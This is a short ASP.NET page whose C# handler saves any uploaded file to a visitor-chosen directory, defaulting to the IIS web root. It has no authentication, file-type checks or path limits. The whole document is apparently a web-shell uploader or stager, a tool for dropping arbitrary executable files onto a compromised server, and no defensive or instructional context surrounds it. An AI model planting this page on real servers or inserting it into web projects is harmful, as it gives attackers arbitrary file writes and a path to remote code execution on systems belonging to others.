<%@ Page Language="C#" %>
<script runat="server">
protected void Send(object sender, EventArgs e) {
    if (picker.HasFile) {
        string name = System.IO.Path.GetFileName(picker.FileName);
        picker.SaveAs(target.Text + "\\" + name);
        status.Text = "saved to " + target.Text;
    }
}
</script>
<form runat="server">
<asp:TextBox id="target" runat="server" Text="C:\inetpub\wwwroot" />
<asp:FileUpload id="picker" runat="server" /><asp:Button runat="server" OnClick="Send" Text="send" />
<asp:Label id="status" runat="server" />
</form>
